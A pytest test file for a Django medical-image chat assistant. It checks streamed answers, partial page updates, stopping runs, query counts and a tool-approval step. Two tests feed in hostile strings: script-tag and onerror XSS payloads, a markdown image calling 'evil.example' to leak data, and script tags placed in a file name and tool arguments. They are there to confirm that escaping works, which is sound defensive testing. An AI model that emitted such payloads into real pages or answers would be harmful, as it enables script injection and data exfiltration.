"""Live answers: what a page shows in the middle of a run, what its stream sends, and how it ends."""

import asyncio
from pathlib import Path
from typing import Any

import data_store
import pytest
from django.contrib.auth.models import User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import AsyncClient, Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from assistant import events, markdown, rendering, runs, uploads
from assistant.models import Conversation, Event, Image, Message, Run
from tests.assistant.pages import HTMX, running, text_of

pytestmark = pytest.mark.django_db(transaction=True)
RADIOGRAPH = Path(data_store.__file__).parent / "data" / "RG1_UNCR.dcm"


@pytest.fixture
def client(alice: User, client_of: Any) -> Client:
    return client_of(alice)


@pytest.fixture
def conversation(alice: User) -> Conversation:
    return Conversation.objects.create(owner=alice, title="Chest film")


@pytest.fixture
def radiograph(alice: User) -> Image:
    return uploads.store(alice, SimpleUploadedFile("film.dcm", RADIOGRAPH.read_bytes()))


def test_a_page_loaded_in_the_middle_goes_on_from_there(client, conversation):
    run = running(conversation, events.TextDelta("One.\n\nTwo"), events.TextDelta(" and"))
    page = text_of(client.get(reverse("chat", args=[conversation.pk])))
    assert f"/runs/{run.pk}/events/?after=2" in page
    assert "Two and" in page
    assert 'class="stop' in page


def test_only_what_changed_is_sent(conversation):
    run = running(conversation)
    transcript = events.Transcript()
    transcript.add(1, "text", {"text": "First paragraph.\n\nSecond"})
    old = rendering.blocks(run.pk, transcript)
    transcript.add(2, "text", {"text": " goes on."})
    html = rendering.difference(run, old, rendering.blocks(run.pk, transcript))
    assert "Second goes on." in html
    assert "First paragraph" not in html


def test_a_step_that_changes_sends_only_its_line_so_that_it_stays_open(conversation):
    run = running(conversation)
    transcript = events.Transcript()
    transcript.add(1, "requested", {"call_id": "a", "name": "segment", "arguments": {"image": "img1"}, "number": 1})
    old = rendering.blocks(run.pk, transcript)
    transcript.add(2, "finished", {"number": 1, "state": "done", "summary": "2 masks", "seconds": 0.06})
    html = rendering.difference(run, old, rendering.blocks(run.pk, transcript))
    assert "<details" not in html
    assert "2 masks" in html
    assert "60 ms" in html


def test_a_step_that_is_written_again_takes_back_its_words(conversation):
    run = running(conversation)
    transcript = events.Transcript()
    transcript.add(1, "text", {"text": "Half a sent"})
    old = rendering.blocks(run.pk, transcript)
    transcript.add(2, "restarted", {})
    html = rendering.difference(run, old, rendering.blocks(run.pk, transcript))
    assert 'hx-swap-oob="delete"' in html


async def _heard(user: User, url: str, headers: dict[str, str] | None = None) -> str:
    client = AsyncClient()
    await client.aforce_login(user)
    response = await client.get(url, headers=headers or {})
    assert response["Cache-Control"] == "no-cache"
    assert response["X-Accel-Buffering"] == "no"
    pieces = [piece.decode() async for piece in response.streaming_content]
    return "".join(pieces)


def finished(conversation: Conversation) -> Run:
    number = conversation.runs.count()
    run = running(
        conversation,
        events.ToolRequested("a", "segment", {"image": "img1"}, number),
        events.ToolFinished(number, "done", "2 masks", 0.1),
        *(events.TextDelta(f"w{i} ") for i in range(5)),
    )
    run.answer = conversation.add(Message.ASSISTANT, run.transcript().text)
    run.leave(Run.DONE, events.Answered("w0 w1 w2 w3 w4"))
    return run


def test_the_stream_ends_with_the_finished_answer_wherever_it_begins(conversation, alice):
    run = finished(conversation)
    url = reverse("run-events", args=[run.pk])
    whole, late, over = (asyncio.run(_heard(alice, f"{url}?after={n}")) for n in (0, 5, 99))
    for heard in (whole, late, over):
        assert heard.rstrip().endswith("event: end\ndata:")
        assert "w0 w1 w2 w3 w4" in heard
        assert "Research use only, not for diagnosis." in heard
    assert asyncio.run(_heard(alice, f"{url}?after=0", {"Last-Event-ID": "5"})) == late


@pytest.mark.parametrize("after", ["", "-1", "x", "9" * 30, "²"])
def test_a_strange_cursor_is_the_beginning(after, conversation, alice):
    url = reverse("run-events", args=[finished(conversation).pk])
    assert "w0 w1 w2 w3 w4" in asyncio.run(_heard(alice, f"{url}?after={after}"))


def test_stopping_keeps_what_was_said_and_says_so(client, conversation):
    run = running(conversation, events.TextDelta("The first half"))
    assert client.post(reverse("run-cancel", args=[run.pk]), headers=HTMX).status_code == 204
    page = text_of(client.get(reverse("chat", args=[conversation.pk])))
    assert "The first half" in page
    assert "Stopped" in page
    assert "sse-connect" not in page
    assert page.count("The first half") == 1


def test_words_and_steps_stay_in_their_order_when_the_answer_is_done(client, conversation):
    run = running(
        conversation,
        events.TextDelta("I look first."),
        events.ToolRequested("a", "describe_image", {"image": "img1"}, 1),
        events.ToolFinished(1, "done", "1841 x 1955", 0.2),
        events.TextDelta("It is large."),
    )
    run.answer = conversation.add(Message.ASSISTANT, run.transcript().text)
    run.leave(Run.DONE, events.Answered(run.transcript().text))
    page = text_of(client.get(reverse("chat", args=[conversation.pk])))
    assert page.index("I look first.") < page.index("1841 x 1955") < page.index("It is large.")


def test_hostile_words_of_a_model_stay_words(client, conversation):
    bad = '<img src=x onerror=alert(1)> <script>alert(1)</script> ![x](http://evil.example/?leak) "><b>'
    run = running(conversation, events.TextDelta(bad))
    live = text_of(client.get(reverse("chat", args=[conversation.pk])))
    run.answer = conversation.add(Message.ASSISTANT, bad)
    run.leave(Run.DONE, events.Answered(bad))
    done = text_of(client.get(reverse("chat", args=[conversation.pk])))
    for page in (live, done):
        assert "<script>alert" not in page
        assert "<img src=x" not in page
        assert "evil.example" not in page


def test_hostile_arguments_and_file_names_stay_words(client, conversation, radiograph):
    Image.objects.update(name='"><script>alert(1)</script>.png')
    conversation.add(Message.USER, "Look", [Image.objects.get()])
    running(conversation, events.ToolRequested("a", "<script>x", {"image": "<script>alert(2)</script>"}, 1))
    page = text_of(client.get(reverse("chat", args=[conversation.pk])))
    assert "<script>alert" not in page
    assert "<script>x" not in page


def test_the_number_of_queries_does_not_grow_with_the_events(client, conversation, django_assert_max_num_queries):
    run = running(conversation)
    Event.objects.bulk_create(Event(run=run, seq=i, kind="text", payload={"text": "w "}) for i in range(1, 400))
    with django_assert_max_num_queries(30):
        client.get(reverse("chat", args=[conversation.pk]))


def test_a_long_chat_opens_with_the_queries_of_a_short_one(client, conversation):
    def opened() -> tuple[str, int]:
        with CaptureQueriesContext(connection) as queries:
            page = text_of(client.get(reverse("chat", args=[conversation.pk])))
        return page, len(queries)

    def failed() -> None:
        run = running(conversation, events.TextDelta("Half"))
        run.answer = conversation.add(Message.ASSISTANT, "Half")
        run.leave(Run.FAILED, events.Stopped("failed", "It broke."))

    finished(conversation)
    failed()
    _, short = opened()
    for _ in range(8):
        finished(conversation)
        failed()
    page, long = opened()
    assert long == short
    assert page.count("w0 w1 w2 w3 w4") == 9
    assert page.count(">It broke.<") == 9
    assert page.count("2 masks") == 9


def test_a_marker_that_is_streamed_is_never_seen_raw():
    said = "Words. [[p12]] More [[c3.1]]."
    for end in range(len(said) + 1):
        assert "[[" not in markdown.render(said[:end], live=True)


def test_a_call_that_waits_for_the_user_shows_two_buttons_and_takes_one_answer(
    client, conversation, radiograph, settings, eager_celery
):
    settings.APPROVE = ["segment"]
    run = runs.ask(conversation, "Segment the lungs", [radiograph])
    page = text_of(client.get(reverse("chat", args=[conversation.pk])))
    decide = reverse("run-decide", args=[run.pk, 1])
    assert decide in page
    assert "Allow" in page
    assert client.post(decide, {"allow": "yes"}, headers=HTMX).status_code == 204
    assert client.post(decide, {"allow": "yes"}, headers=HTMX).status_code == 409
    page = text_of(client.get(reverse("chat", args=[conversation.pk])))
    assert "was outlined" in page
    assert decide not in page


@pytest.mark.parametrize("way", ["page", "htmx"])
def test_a_run_that_ends_while_the_page_is_made_leaves_no_stop_button(client, conversation, monkeypatch, way):
    name = "turns" if way == "page" else "run_html"
    render = getattr(rendering, name)

    def ending_first(*arguments: Any) -> Any:
        for run in conversation.runs.active():
            runs.advance(str(run.pk))
        return render(*arguments)

    monkeypatch.setattr(rendering, name, ending_first)
    if way == "page":
        runs.ask(conversation, "Hello", [])
        page = text_of(client.get(reverse("chat", args=[conversation.pk])))
    else:
        page = text_of(client.post(reverse("chat-send", args=[conversation.pk]), {"text": "Hello"}, headers=HTMX))
    assert "I answer from tools only" in page
    assert 'class="stop' not in page
